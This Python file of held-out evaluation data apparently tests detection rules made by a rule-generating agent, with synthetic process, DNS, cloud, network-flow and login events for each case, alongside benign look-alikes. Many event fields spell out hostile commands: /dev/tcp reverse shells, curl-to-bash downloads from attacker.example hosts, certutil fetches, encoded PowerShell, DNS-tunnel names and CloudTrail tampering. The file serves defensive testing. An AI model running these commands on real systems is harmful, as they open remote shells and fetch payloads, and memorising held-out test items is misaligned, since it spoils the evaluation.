"""Events that the generator of `ruleforge agent` never saw: for each case, further attacks and ordinary use.

Written apart from the cases and strategies, with what others do in such attacks: other programs, options, places, paces.
Hard ones are among them on purpose; what a rule misses here is a figure and not a reason to change an example.
"""

# ruff: noqa: E501 - tables

from collections.abc import Callable, Iterator
from typing import Any

Fields = dict[str, Any]
Stream = list[dict[str, Any]]  # events as cases hold them

PROCESS, DNS, CLOUD, AUTH = "process", "dns", "cloud_api", "auth_log"


def one(fields: Fields) -> Stream:
    return [{"fields": fields}]


def many(count: int, every: str, fields: Fields, time: str = "2099-09-01T12:00:00Z") -> dict[str, Any]:
    return {"time": time, "repeat": str(count), "every": every, "fields": fields}


# --- processes -----------------------------------------------------------------------------------------------------


def proc(name: str, line: str, parent: str, *, path: str = "", user: str = "svc", host: str = "h1") -> Fields:
    return {
        "process.executable": path or (f"C:\\Windows\\System32\\{name}" if name.endswith(".exe") else f"/usr/bin/{name}"),
        "process.name": name, "process.command_line": line, "parent.name": parent, "user": user, "host": host,
        "outcome": "success",
    }  # fmt: skip


PROCESS_ORDINARY = [
    one(proc(*entry))
    for entry in (
        ("bash", "bash -c 'for f in *.log; do gzip \"$f\"; done'", "cron"),
        ("sh", "sh -c \"test -f /srv/app/ready && echo ok\"", "dockerd"),
        ("bash", "bash --login", "sshd"),
        ("sh", "sh -c 'nc -z 192.0.2.8 5432'", "docker-entrypoint"),
        ("bash", "bash -c \"echo > /dev/null\"", "make"),
        ("curl", "curl -sSL https://get.tool.example/install.sh -o install.sh", "bash"),
        ("sh", "sh -c 'curl -s http://127.0.0.1:9000/metrics | grep up'", "cron"),
        ("bash", "bash -c 'curl https://api.example/v1 | tee out.json'", "jenkins"),
        ("python3", "python3 /srv/jobs/sync.py --url https://files.example/a", "systemd"),
        ("perl", "perl -pe s/a/b/ notes.txt", "bash"),
        ("git", "git clone https://code.example/team/project.git", "bash"),
        ("vi", "vi /etc/crontab", "sudo"),
        ("cmd.exe", "cmd.exe /c ver", "explorer.exe"),
        ("cmd.exe", "cmd.exe /c start notepad", "explorer.exe"),
        ("powershell.exe", "powershell.exe -Command \"Get-Process | Sort-Object CPU\"", "explorer.exe"),
        ("powershell.exe", "powershell.exe -EncodedArguments none -File C:\\Jobs\\a.ps1", "taskeng.exe"),
        ("w3wp.exe", "w3wp.exe -ap \"shop\"", "svchost.exe"),
        ("vbc.exe", "vbc.exe /t:library @C:\\Windows\\Temp\\x.cmdline", "w3wp.exe"),
        ("WerFault.exe", "WerFault.exe -u -p 3112", "w3wp.exe"),
        ("msedge.exe", "msedge.exe --single-argument https://www.example/a?b=QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo0NTY3ODkw", "explorer.exe"),
    )
]  # fmt: skip


def net_device() -> Iterator[Stream]:
    for entry in (
        ("bash", "/bin/bash -l > /dev/tcp/192.0.2.200/8080 0<&1 2>&1", "sh"),
        ("bash", "bash -c {echo,0<&196;exec,196<>/dev/tcp/203.0.113.3/443;sh,<&196}", "nginx"),
        ("sh", "sh -i >& /dev/udp/198.51.100.9/53 0>&1", "cron"),
        ("zsh", "zsh -c 'cat < /dev/tcp/203.0.113.8/7000 | zsh'", "ruby"),
        ("bash", "bash -c 'while read l; do $l 2>&1 >&3; done 3<>/dev/tcp/c2.attacker.example/9999 <&3'", "postgres"),
        ("timeout", "timeout 60 bash -c 'exec 3<>/dev/tcp/198.51.100.77/25; sh <&3 >&3'", "cron"),
    ):
        yield one(proc(*entry))


def net_device_ordinary() -> Iterator[Stream]:
    yield one(proc("grep", "grep -r /dev/tcp/ /etc/profile.d", "bash"))
    yield one(proc("man", "man bash", "bash"))
    yield one(proc("vim", "vim notes-on-dev-tcp.md", "bash"))


def encoded() -> Iterator[Stream]:
    blob = "JABzAD0AJwAxADkAOAAuADUAMQAuADEAMAAwAC4AMgAnADsAIABpAGUAeAAgACQAcwA="
    for name, line, parent in (
        ("powershell.exe", f"powershell.exe -EncodedC {blob}", "excel.exe"),
        ("powershell.exe", f"POWERSHELL -W 1 -Exec Bypass -Enc {blob}", "wscript.exe"),
        ("pwsh.exe", f"pwsh.exe -NonI -e {blob}", "services.exe"),
        ("cmd.exe", f"cmd.exe /c powershell -nop -enc {blob}", "winword.exe"),
        ("powershell.exe", f"powershell.exe /enc {blob}", "outlook.exe"),
        (
            "powershell.exe",
            f'"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -ec {blob}',
            "svchost.exe",
        ),
    ):
        yield one(proc(name, line, parent))


def encoded_ordinary() -> Iterator[Stream]:
    yield one(proc("powershell.exe", "powershell.exe -Encoding utf8 -File C:\\Jobs\\export.ps1", "taskeng.exe"))
    yield one(
        proc(
            "powershell.exe",
            "powershell.exe -ExecutionPolicy RemoteSigned -File C:\\Jobs\\nightlyinventoryofmachines.ps1",
            "taskeng.exe",
        )
    )
    yield one(proc("cmd.exe", "cmd.exe /c echo encoded", "explorer.exe"))


def web_worker() -> Iterator[Stream]:
    for name, line in (
        ("cmd.exe", "cmd.exe /c ipconfig /all"),
        ("powershell.exe", "powershell.exe -c Get-ChildItem C:\\inetpub"),
        ("cmd.exe", '"C:\\Windows\\System32\\cmd.exe" /c echo x > C:\\inetpub\\a.aspx'),
        ("CMD.EXE", "CMD.EXE /Q /C tasklist"),
        ("cscript.exe", "cscript.exe //B C:\\inetpub\\temp\\a.vbs"),
        ("cmd.exe", "cmd /c certutil -urlcache -f http://203.0.113.9/a.exe a.exe"),
    ):
        yield one(proc(name, line, "w3wp.exe", user="IIS APPPOOL\\news"))


def web_worker_ordinary() -> Iterator[Stream]:
    yield one(proc("cmd.exe", "cmd.exe /c iisreset", "mmc.exe"))
    yield one(proc("cmd.exe", "cmd.exe /c deploy.bat", "services.exe"))
    yield one(proc("cvtres.exe", "cvtres.exe /NOLOGO", "w3wp.exe"))


def pipe() -> Iterator[Stream]:
    for entry in (
        ("bash", "bash -c 'curl -L https://x.attacker.example/s | sudo bash -s -- -y'", "sshd"),
        ("sh", 'sh -c "wget http://203.0.113.200/p -O- | perl"', "apache2"),
        ("dash", "dash -c 'curl -k https://198.51.100.31:8443/a.sh|/bin/sh'", "java"),
        ("bash", 'bash -c "(curl -s ftp://203.0.113.12/m || wget -qO- http://203.0.113.12/m) | bash"', "cron"),
        ("sh", "sh -c 'curl -fsSL http://203.0.113.61/run.rb | ruby'", "puma"),
        ("bash", "bash -c 'bash <(curl -s http://203.0.113.61/run.sh)'", "node"),
    ):
        yield one(proc(*entry))


def pipe_ordinary() -> Iterator[Stream]:
    yield one(proc("sh", "sh -c 'curl -s https://lists.example/a.csv | sort | uniq -c'", "cron"))
    yield one(proc("bash", "bash -c 'ssh backup@192.0.2.7 cat /srv/x.sh | bash -n'", "jenkins"))
    yield one(proc("bash", "bash -c 'wget -qO- https://status.example | wc -c'", "cron"))


def _looking(programs: str, parent: str, every: int, host: str) -> Stream:
    return [
        {
            "time": f"2099-09-01T12:{at * every // 60:02}:{at * every % 60:02}Z",
            "fields": proc(name, name, parent, host=host),
        }
        for at, name in enumerate(programs.split())
    ]


def looking() -> Iterator[Stream]:
    yield _looking("id hostname uname ss ps mount lsblk", "sh", 4, "a1")
    yield _looking("whoami w last ip route crontab", "sh", 5, "a2")
    yield _looking("uname lscpu free df ps env netstat arp", "sh", 1, "a3")
    yield _looking("id sudo find getcap cat ls", "sh", 6, "a4")
    yield _looking("whoami hostname uname id ps netstat", "bash", 3, "a5")  # a shell of another name
    yield _looking("id uname hostname", "sh", 3, "a6")  # in a hurry


def looking_ordinary() -> Iterator[Stream]:
    yield _looking("df free uptime", "sh", 2, "b1")
    yield _looking("tar gzip rsync sha256sum", "sh", 20, "b2")
    yield [many(40, "1s", proc("curl", "curl -s http://127.0.0.1/health", "sh", host="b3"))]
    yield [many(30, "1s", proc("make", "make", "bash", host="b4"))]
    yield _looking("gcc as ld ar ranlib strip", "make", 1, "b5")
    yield _looking("date sed awk sort uniq", "bash", 2, "b6")
    yield _looking("git ssh tar", "sh", 3, "b7")
    yield _looking("find xargs rm", "sh", 1, "b8")
    yield _looking("test expr cat", "sh", 1, "b9")
    yield _looking("ps grep awk kill", "sh", 15, "b10")
    yield _looking("php convert sendmail", "sh", 2, "b11")
    for at in range(10):
        yield [many(3 + at, "40s", proc("python3", f"python3 job{at}.py", "cron", host=f"c{at}"))]


def _fetched(fetch: str, run: str, pause: int, host: str, other: str = "") -> Stream:
    name, path = fetch.split()[0], run.split()[0]
    return [
        {"time": "2099-09-01T12:00:00Z", "fields": proc(name, fetch, "bash", host=host)},
        {
            "time": f"2099-09-01T12:{pause // 60:02}:{pause % 60:02}Z",
            "fields": proc(path.rsplit("/", 1)[-1], run, "bash", path=path, host=other or host),
        },
    ]


def fetched() -> Iterator[Stream]:
    yield _fetched("curl -fsSL -o /tmp/.d https://203.0.113.7:8443/d", "/tmp/.d -q", 2, "m1")
    yield _fetched("wget http://x.attacker.example/a.out -P /var/tmp", "/var/tmp/a.out", 30, "m2")
    yield _fetched("tftp tftp://198.51.100.4/bot", "/dev/shm/bot", 5, "m3")
    yield _fetched("python3 -c import_urllib;urlretrieve('http://203.0.113.7/k','/tmp/k')", "/tmp/k", 1, "m4")
    yield _fetched("scp up@198.51.100.4:/x /tmp/x", "/tmp/x", 10, "m5")  # no URL
    yield _fetched("curl -o /tmp/late http://203.0.113.7/late", "/tmp/late", 3_000, "m6")  # much later


def fetched_ordinary() -> Iterator[Stream]:
    for at in range(8):
        yield _fetched(f"curl -s https://api.example/{at}", "/usr/bin/jq .", 2, f"n{at}")
    for at in range(6):
        yield _fetched("gcc -o /tmp/t t.c", "/tmp/t", 1, f"o{at}")
    for at in range(4):
        yield _fetched("wget https://downloads.example/tool.deb", "/usr/bin/dpkg -i tool.deb", 20, f"p{at}")
    for at in range(4):
        yield _fetched("curl -o /tmp/data https://lists.example/d", "/tmp/unit-test", 5, f"q{at}", f"r{at}")


# --- DNS -----------------------------------------------------------------------------------------------------------


def ask(name: str, kind: str = "A", code: str = "NOERROR", source: str = "192.0.2.90") -> Fields:
    return {
        "question.name": name, "question.domain": ".".join(name.split(".")[-2:]), "question.type": kind,
        "response.code": code, "source.address": source,
    }  # fmt: skip


def tunnel() -> Iterator[Stream]:
    for name, kind, count, every in (
        ("{n}aaaqebagbafaydqoqbibqgkdqpbqkcqmdaoqhq.d.attacker.example", "NULL", 40, "1s"),
        ("nbswy3dpeb3w64tmmqqq{n}mzxw6ytbojzsaylomqqgk5d.t1.far-away.example", "CNAME", 20, "2s"),
        ("{n}68656c6c6f20776f726c6468656c6c6f20776f726c64.q.ns-two.example", "A", 60, "1s"),
        ("v{n}0123456789abcdefghijklmnopqrstuvwxyzabcdef.x.relay.example", "TXT", 15, "4s"),
        ("data-{n}-aGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8.up.example", "TXT", 30, "1s"),
        ("{n}c2hvcnQ.slow.attacker.example", "TXT", 200, "1s"),  # short labels, many of them
    ):
        yield [many(count, every, ask(name, kind))]


def dns_streams() -> Iterator[Stream]:
    for at in range(8):
        yield [many(10 + 5 * at, "1s", ask(f"img{{n}}.shop{at}.example", source=f"192.0.2.{at}"))]
    for at in range(4):
        yield [many(6, "3s", ask(f"e{{n}}k3v9x2m7q.edge{at}.cdn.example", source=f"192.0.2.{20 + at}"))]
    yield [many(20, "1s", ask("{n}.2.0.192.in-addr.arpa", "PTR"))]
    yield [many(30, "1s", ask("{n}.2.0.192.zen.blocklist.example", code="NXDOMAIN"))]
    yield [many(5, "1s", ask("_acme-challenge.shop{n}.example", "TXT"))]
    yield [many(3, "60s", ask("0123456789abcdef0123456789abcdef0123456789{n}.scan.vendor.example"))]
    yield [many(12, "5s", ask("wpad{n}.corp.example", code="NXDOMAIN"))]
    yield [many(8, "10s", ask("typo{n}.example", code="NXDOMAIN"))]
    yield [many(50, "1s", ask("www{n}.example"))]
    yield [many(4, "1s", ask("ocsp{n}.ca.example"))]


def made_up() -> Iterator[Stream]:
    for name, count, every in (
        ("qx{n}vbnzkplr.example", 60, "1s"),
        ("{n}jhgfwrtpz.test", 30, "2s"),
        ("mzk{n}qrtvwxp.invalid", 20, "3s"),
        ("word{n}garden{n}.example", 50, "1s"),  # of words of a dictionary
        ("hd{n}wlkcbgtz.example", 15, "1s"),
        ("rare{n}xkcdqw.example", 16, "30s"),  # slow
    ):
        yield [many(count, every, ask(name, code="NXDOMAIN"))]


def one_domain() -> Iterator[Stream]:
    for head in ("mail", "img", "a.b.c", "update7", "x", "stats.eu"):
        yield one(ask(f"{head}.north-weather.example"))


def one_domain_ordinary() -> Iterator[Stream]:
    for at in range(21):
        yield one(ask(("www", "api", "cdn")[at % 3] + f".west-weather{at}.example"))


# --- cloud ---------------------------------------------------------------------------------------------------------


def call(service: str, action: str, **more: Any) -> Fields:  # noqa: ANN401 - values of any field
    given: Fields = {
        "provider": "aws", "service": f"{service}.amazonaws.com", "action": action, "outcome": "success", "user": "eve",
        "user.type": "IAMUser", "source.address": "203.0.113.140", "region": "eu-north-1", "user_agent": "aws-cli/2.15",
        "read_only": "false",
    }  # fmt: skip
    dotted = {"source_address": "source.address"}
    return given | {dotted.get(name, name): value for name, value in more.items()}


CLOUD_ORDINARY = [
    one(call(service, action, user="ops", read_only="true"))
    for service, action in (
        ("cloudtrail", "GetTrail"), ("cloudtrail", "ListTrails"), ("cloudtrail", "CreateTrail"),
        ("cloudtrail", "GetEventSelectors"), ("ec2", "StopInstances"), ("ec2", "DeleteVolume"), ("s3", "DeleteObject"),
        ("logs", "DeleteLogStream"), ("iam", "DeleteUser"), ("sts", "AssumeRole"), ("ec2", "DescribeVpcs"),
        ("ec2", "CreateVpc"), ("rds", "StopDBInstance"), ("lambda", "DeleteFunction"), ("kms", "ScheduleKeyDeletion"),
        ("elasticloadbalancing", "DescribeLoadBalancers"), ("autoscaling", "SetDesiredCapacity"), ("sns", "Publish"),
    )
]  # fmt: skip


def trail() -> Iterator[Stream]:
    for at, (action, outcome) in enumerate(
        (("StopLogging", "success"), ("DeleteTrail", "success"), ("StopLogging", "failure"), ("DeleteTrail", "success"),
         ("UpdateTrail", "success"), ("PutEventSelectors", "success"))
    ):  # fmt: skip
        yield one(
            call("cloudtrail", action, outcome=outcome, source_address=f"198.51.100.{at}", request={"/name": f"t{at}"})
        )


def opened() -> Iterator[Stream]:
    address = "/ipPermissions/items/0/ipRanges/items/0/cidrIp"
    for port, place, net in (
        ("22", address, "0.0.0.0/0"), ("3306", address, "0.0.0.0/0"), ("0", address, "0.0.0.0/0"),
        ("22", "/ipPermissions/items/0/ipv6Ranges/items/0/cidrIpv6", "::/0"), ("6379", address, "0.0.0.0/0"),
        ("443", "/ipPermissions/items/1/ipRanges/items/0/cidrIp", "0.0.0.0/0"),
    ):  # fmt: skip
        yield one(
            call("ec2", "AuthorizeSecurityGroupIngress", request={"/groupId": "sg-9", "/ipPermissions/items/0/fromPort": port, place: net})
        )  # fmt: skip


def opened_ordinary() -> Iterator[Stream]:
    address = "/ipPermissions/items/0/ipRanges/items/0/cidrIp"
    for net in ("198.51.100.0/24", "10.0.0.0/8", "203.0.113.7/32"):
        yield one(call("ec2", "AuthorizeSecurityGroupIngress", request={"/groupId": "sg-9", address: net}))
    yield one(call("ec2", "AuthorizeSecurityGroupEgress", request={"/groupId": "sg-9", address: "0.0.0.0/0"}))
    yield one(call("ec2", "CreateRoute", request={"/destinationCidrBlock": "0.0.0.0/0"}))


def rights() -> Iterator[Stream]:
    for at, (service, head, count, every, code) in enumerate(
        (("iam", "List", 40, "1s", "AccessDenied"), ("ec2", "Describe", 12, "2s", "AccessDenied"),
         ("s3", "Get", 20, "10s", "AccessDenied"), ("lambda", "List", 14, "3s", "AccessDenied"),
         ("ec2", "Describe", 30, "1s", "Client.UnauthorizedOperation"), ("iam", "Get", 6, "1s", "AccessDenied"))
    ):  # fmt: skip
        given = call(service, head + "Part{n}", outcome="failure", source_address=f"198.51.100.{at}", read_only="true")
        yield [many(count, every, given | {"error.code": code, "access_key": f"AKIAEXAMPLEX{at}"})]


def cloud_streams() -> Iterator[Stream]:
    for at in range(8):
        given = call("ec2", "Describe{n}", source_address=f"192.0.2.{at}", read_only="true")
        yield [many(15 + at, "1s", given)]
    for at in range(8):
        refused = call("s3", f"Put{at}", outcome="failure", source_address=f"192.0.2.{20 + at}") | {
            "error.code": "AccessDenied"
        }
        yield [many(10 * (at + 1), "2s", refused)]
    for at in range(5):
        refused = call("iam", "Get{n}", outcome="failure", source_address=f"192.0.2.{40 + at}") | {
            "error.code": "AccessDenied"
        }
        yield [many(2 + at, "20s", refused)]


# --- flows ---------------------------------------------------------------------------------------------------------


def flow(source: str, port: str, action: str = "REJECT", to: str = "192.0.2.8", **more: str) -> Fields:
    return {
        "source.address": source, "destination.address": to, "destination.port": port, "network.protocol": "6",
        "action": action, "packets": "1", "bytes": "44", "direction": "ingress",
    } | more  # fmt: skip


def scanning() -> Iterator[Stream]:
    yield [many(200, "1s", flow("203.0.113.88", "3{n}"))]
    yield [many(30, "1s", flow("203.0.113.89", "1{n}"))]
    yield [many(60, "3s", flow("198.51.100.88", "{n}"))]
    yield [many(25, "4s", flow("198.51.100.89", "80{n}"))]
    yield [many(100, "1s", flow("203.0.113.90", "2{n}", "ACCEPT"))]  # a network that refuses nothing
    yield [many(50, "5m", flow("203.0.113.91", "2{n}"))]  # over hours


def flows() -> Iterator[Stream]:
    for at, port in enumerate(("443", "22", "25", "3306", "8443", "5060")):
        yield [many(50, "1s", flow(f"192.0.2.{100 + at}", port))]
        yield [many(60, "1s", flow(f"192.0.2.{110 + at}", port, "ACCEPT"))]
    for at in range(4):
        yield [many(2 + at, "4s", flow(f"192.0.2.{120 + at}", "900{n}"))]
    for at in range(5):
        yield [many(40, "1s", flow("192.0.2.8", "5{n}", "ACCEPT", to=f"192.0.2.{130 + at}", direction="egress"))]


# --- logins --------------------------------------------------------------------------------------------------------


def login(outcome: str, user: str, source: str, **more: str) -> Fields:
    given: Fields = {
        "action": "login", "outcome": outcome, "service": "sshd", "user": user, "auth.method": "password",
        "source.address": source, "host": "edge", "session.id": "s{n}",
    }  # fmt: skip
    return given | ({"reason": "credential"} if outcome == "failure" else {}) | more


def guessing() -> Iterator[Stream]:
    for user, count, every in (
        ("root", 100, "1s"), ("admin", 40, "3s"), ("oracle{n}", 30, "5s"), ("pi", 20, "10s"), ("root", 18, "12s"),
        ("root", 60, "60s"),
    ):  # fmt: skip
        yield [many(count, every, login("failure", user, "203.0.113.201"))]


def spraying() -> Iterator[Stream]:
    for count, every in ((40, "10s"), (15, "60s"), (12, "30s"), (25, "45s"), (10, "5s"), (30, "15m")):
        yield [many(count, every, login("failure", "emp{n}", "198.51.100.202"))]


def _then(failures: int, every: str, gap: str, user: str, other: str = "") -> Stream:
    return [
        many(failures, every, login("failure", user, "203.0.113.203"), "2099-09-01T12:00:00Z"),
        {"time": gap, "fields": login("success", other or user, "203.0.113.203")},
    ]


def guessed() -> Iterator[Stream]:
    yield _then(20, "2s", "2099-09-01T12:00:41Z", "git")
    yield _then(6, "5s", "2099-09-01T12:00:35Z", "admin")
    yield _then(50, "1s", "2099-09-01T12:00:55Z", "user{n}", "user31")
    yield _then(8, "4s", "2099-09-01T12:00:40Z", "postgres")
    yield _then(12, "9s", "2099-09-01T12:01:50Z", "backup")
    yield _then(30, "20s", "2099-09-01T12:10:30Z", "root")  # over ten minutes


def logins() -> Iterator[Stream]:
    for at in range(6):
        yield [
            many(1 + at % 4, "6s", login("failure", f"p{at}", f"192.0.2.{at}")),
            {"time": "2099-09-01T12:01:00Z", "fields": login("success", f"p{at}", f"192.0.2.{at}")},
        ]
    for at in range(5):
        yield [
            many(20 + 10 * at, "1s", login("success", "deploy", f"192.0.2.{50 + at}") | {"auth.method": "publickey"})
        ]
    for at in range(4):
        yield [many(8, "30m", login("failure", f"q{at}", f"192.0.2.{60 + at}"))]
    for at in range(3):
        yield [many(30, "5s", login("failure", "p{n}", f"192.0.2.1{{n}}{at}"[:12]))]  # each from elsewhere
    yield [many(3, "2s", login("failure", "mistyped{n}", "192.0.2.70"))]
    yield [many(6, "9s", login("failure", "old-laptop", "192.0.2.71"))]
    yield [
        many(200, "10s", {"action": "session", "outcome": "success", "service": "cron", "user": "root", "host": "edge"})
    ]


HELD_OUT: dict[str, tuple[Callable[[], Iterator[Stream]], list[Stream]]] = {
    "EV-PROC-NET-DEVICE-SHELL": (net_device, [*PROCESS_ORDINARY, *net_device_ordinary()]),
    "EV-PROC-ENCODED-POWERSHELL": (encoded, [*PROCESS_ORDINARY, *encoded_ordinary()]),
    "EV-PROC-SHELL-OF-WEB-WORKER": (web_worker, [*PROCESS_ORDINARY, *web_worker_ordinary()]),
    "EV-PROC-PIPE-TO-SHELL": (pipe, [*PROCESS_ORDINARY, *pipe_ordinary()]),
    "EV-PROC-LOOKING-AROUND": (looking, list(looking_ordinary())),
    "EV-PROC-FETCHED-THEN-RUN": (fetched, list(fetched_ordinary())),
    "EV-FLOW-PORT-SCAN": (scanning, list(flows())),
    "EV-DNS-TUNNEL": (tunnel, list(dns_streams())),
    "EV-DNS-MADE-UP-DOMAINS": (made_up, list(dns_streams())),
    "EV-DNS-ONE-DOMAIN": (one_domain, list(one_domain_ordinary())),
    "EV-CLOUD-TRAIL-STOPPED": (trail, [*CLOUD_ORDINARY, *opened_ordinary()]),
    "EV-CLOUD-PORT-OPENED": (opened, [*CLOUD_ORDINARY, *opened_ordinary()]),
    "EV-CLOUD-TRYING-RIGHTS": (rights, list(cloud_streams())),
    "EV-AUTH-GUESSING": (guessing, list(logins())),
    "EV-AUTH-SPRAYING": (spraying, list(logins())),
    "EV-AUTH-GUESSED-RIGHT": (guessed, list(logins())),
    "EV-AUTH-SLOW-GUESSING": (guessing, list(logins())),
}
